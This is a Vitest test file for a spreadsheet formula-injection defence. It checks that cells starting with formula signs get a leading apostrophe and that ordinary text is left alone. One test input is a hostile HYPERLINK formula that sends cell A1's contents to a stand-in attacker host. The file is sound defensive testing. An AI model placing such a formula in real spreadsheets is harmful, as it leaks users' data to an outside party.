import { describe, expect, it } from 'vitest';
import { neutraliseCell } from './spreadsheet.js';

describe('neutraliseCell', () => {
  it('keeps a cell that a spreadsheet would run as a formula as text', () => {
    for (const formula of ['=HYPERLINK("http://evil.example/?"&A1,"Voir")', '@SUM(1+1)', '+1', '-1', '\t=1', '\r=1']) {
      expect(neutraliseCell(formula)).toBe(`'${formula}`);
    }
  });

  it('leaves ordinary text alone, a formula sign inside it included', () => {
    for (const text of ['Avis favorable.', '', ' =1', 'Total = 3', '’=1']) expect(neutraliseCell(text)).toBe(text);
  });
});
